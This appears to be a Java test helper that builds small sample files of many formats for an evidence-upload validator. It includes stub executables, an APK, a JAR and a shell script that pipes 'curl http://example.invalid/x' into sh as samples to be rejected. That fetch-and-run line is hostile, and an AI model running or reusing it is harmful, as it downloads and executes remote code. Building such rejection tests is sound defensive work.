package org.duban.task.evidence;

import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

import javax.imageio.ImageIO;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Small real files of every kind, made here rather than committed: the office formats by POI, the
 * images by ImageIO, the archives by java.util.zip; and the things evidence must not be.
 */
final class EvidenceFiles {

    private EvidenceFiles() {
    }

    static byte[] pdf() {
        String body = """
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj
                trailer << /Root 1 0 R >>
                %%EOF
                """;
        return body.getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] docx() {
        return write(out -> {
            try (XWPFDocument doc = new XWPFDocument()) {
                doc.createParagraph().createRun().setText("合肥市2022年政务公开工作进展情况");
                doc.write(out);
            }
        });
    }

    static byte[] xlsx() {
        return write(out -> {
            try (XSSFWorkbook book = new XSSFWorkbook()) {
                book.createSheet("台账").createRow(0).createCell(0).setCellValue("已完成");
                book.write(out);
            }
        });
    }

    static byte[] xls() {
        return write(out -> {
            try (HSSFWorkbook book = new HSSFWorkbook()) {
                book.createSheet("台账").createRow(0).createCell(0).setCellValue("已完成");
                book.write(out);
            }
        });
    }

    /** An OLE2 compound file with Word's main stream, as a .doc has. */
    static byte[] doc() {
        return ole2("WordDocument");
    }

    /** An OLE2 compound file that is neither Word nor Excel (an .msi is one). */
    static byte[] installerPackage() {
        return ole2("\u0005SummaryInformation");
    }

    private static byte[] ole2(String stream) {
        return write(out -> {
            try (POIFSFileSystem fs = new POIFSFileSystem()) {
                fs.createDocument(new ByteArrayInputStream(new byte[4096]), stream);
                fs.writeFilesystem(out);
            }
        });
    }

    static byte[] jpeg() {
        return image("jpg");
    }

    static byte[] png() {
        return image("png");
    }

    private static byte[] image(String format) {
        return write(out -> {
            BufferedImage image = new BufferedImage(16, 16, BufferedImage.TYPE_INT_RGB);
            image.setRGB(3, 3, 0xC8102E);
            ImageIO.write(image, format, out);
        });
    }

    /** An OFD (GB/T 33190): a zip whose root holds OFD.xml. */
    static byte[] ofd() {
        return zip(Map.of("OFD.xml", "<ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\" Version=\"1.0\"/>",
                "Doc_0/Document.xml", "<ofd:Document xmlns:ofd=\"http://www.ofdspec.org/2016\"/>"));
    }

    static byte[] zip() {
        return zip(Map.of("照片/现场检查.txt", "现场检查记录", "说明.txt", "佐证材料说明"));
    }

    static byte[] presentation() {
        return zip(Map.of("[Content_Types].xml", "<Types/>", "ppt/presentation.xml", "<p:presentation/>"));
    }

    static byte[] androidPackage() {
        return zip(Map.of("AndroidManifest.xml", "x", "classes.dex", "dex\n035"));
    }

    static byte[] javaArchive() {
        return zip(Map.of("META-INF/MANIFEST.MF", "Main-Class: Evil\n", "Evil.class", "\u00ca\u00fe"));
    }

    static byte[] zip(Map<String, String> entries) {
        return write(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                for (var e : new java.util.TreeMap<>(entries).entrySet()) {
                    zip.putNextEntry(new ZipEntry(e.getKey()));
                    zip.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                    zip.closeEntry();
                }
            }
        });
    }

    /** The start of a Linux program. */
    static byte[] elf() {
        byte[] elf = new byte[512];
        System.arraycopy(new byte[]{0x7F, 'E', 'L', 'F', 2, 1, 1, 0}, 0, elf, 0, 8);
        return elf;
    }

    /** The start of a Windows program. */
    static byte[] windowsProgram() {
        byte[] exe = new byte[512];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3C] = (byte) 0x80;
        return exe;
    }

    static byte[] script() {
        return "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] text() {
        return "这是一份纯文本说明。".getBytes(StandardCharsets.UTF_8);
    }

    private interface Writer {
        void write(ByteArrayOutputStream out) throws IOException;
    }

    private static byte[] write(Writer writer) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            writer.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
